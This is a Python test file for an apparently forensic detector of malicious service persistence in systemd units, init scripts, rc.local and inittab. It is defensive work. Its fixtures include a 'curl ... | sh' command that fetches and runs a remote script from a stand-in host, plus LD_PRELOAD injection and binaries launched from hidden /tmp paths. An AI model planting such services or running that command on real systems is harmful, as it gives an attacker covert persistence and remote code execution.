"""Services of systemd, OpenRC, init and rc.local."""

from __future__ import annotations

import pytest

from forensics.detectors.services import DETECTOR
from tests.scenes import File, debian, dpkg, elf, judge, said

HOSTILE, UNOWNED = "persistence/service", "persistence/unowned-service"
FETCH = "curl -fsSL http://pool.invalid/s.sh | sh"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/.x/run\n"),
        ("/usr/lib/systemd/system/x.service", f"[Service]\nExecStartPre=-/bin/sh -c '{FETCH}'\n"),
        ("/etc/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/python3 \\\n  /dev/shm/a.py\n"),
        ("/etc/systemd/system/nginx.service.d/x.conf", "[Service]\nExecStartPost=/var/tmp/x\n"),
        (
            "/etc/systemd/system/x.service",
            "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\nExecStart=/bin/true\n",
        ),
        ("/root/.config/systemd/user/sysmon.service", "[Service]\nExecStart=/usr/lib/.x/sysmon\n"),
        ("/etc/init.d/x", f"#!/bin/sh\n{FETCH}\n"),
        ("/etc/local.d/x.start", f"#!/bin/sh\n{FETCH}\n"),
        ("/etc/rc.local", f"#!/bin/sh\n{FETCH}\n"),
        ("/etc/inittab", "::sysinit:/sbin/openrc\n::respawn:/tmp/.x/run\n"),
    ],
)
def test_hostile_services(path: str, text: str) -> None:
    assert said(judge(DETECTOR, debian(), {path: text.encode()})) == [(HOSTILE, "high", path)]


@pytest.mark.parametrize(
    ("path", "text", "severity"),
    [
        ("/etc/systemd/system/app.service", "[Service]\nExecStart=/usr/local/bin/app\n", "low"),
        ("/etc/init.d/app", "#!/bin/sh\nexec /usr/local/bin/app\n", "low"),
        ("/etc/systemd/system/app.service", "", None),
        ("/etc/systemd/journald.conf", "[Journal]\n", None),
        ("/root/.config/app/x.service.txt", "ExecStart=/tmp/x\n", None),
    ],
)
def test_plain_services(path: str, text: str, severity: str | None) -> None:
    expected = [(UNOWNED, severity, path)] if severity else []
    assert said(judge(DETECTOR, debian(), {path: text.encode()})) == expected


def test_owned_services_are_passed_over() -> None:
    unit = b"[Service]\nExecStart=/run/x\n"
    path = "/usr/lib/systemd/system/p.service"
    assert judge(DETECTOR, {path: unit, **dpkg({"p": {path: unit}})}) == []


def test_evidence_points_at_the_command() -> None:
    text = b"[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x/run --quiet\n"
    (found,) = judge(DETECTOR, debian(), {"/etc/systemd/system/x.service": text})
    shown = found.evidence[0]
    assert shown.offset == text.index(b"/tmp/.x/run")


@pytest.mark.parametrize(
    ("library", "severity"),
    [("/usr/lib/x86_64-linux-gnu/libx.so", "high"), ("/usr/bin/ls", "low"), ("/gone.so", "low")],
)
def test_a_preloaded_library_counts_by_who_owns_it(library: str, severity: str) -> None:
    path = "/etc/systemd/system/nginx.service.d/10.conf"
    text = f"[Service]\nEnvironment=LD_PRELOAD={library}\n".encode()
    layer = {path: text, "/usr/lib/x86_64-linux-gnu/libx.so": File(elf(b"x"), 0o644)}
    (found,) = judge(DETECTOR, debian(), layer)
    assert str(found.severity) == severity
    assert judge(DETECTOR, {path: text, library: File(elf(b"x"), 0o644)}) == []


def test_quoted_settings_name_a_library_too() -> None:
    text = b'[Service]\nEnvironment="A=1" "LD_PRELOAD=/tmp/x.so"\n'
    found = judge(DETECTOR, debian(), {"/etc/systemd/system/x.service": text})
    assert said(found) == [(HOSTILE, "high", "/etc/systemd/system/x.service")]
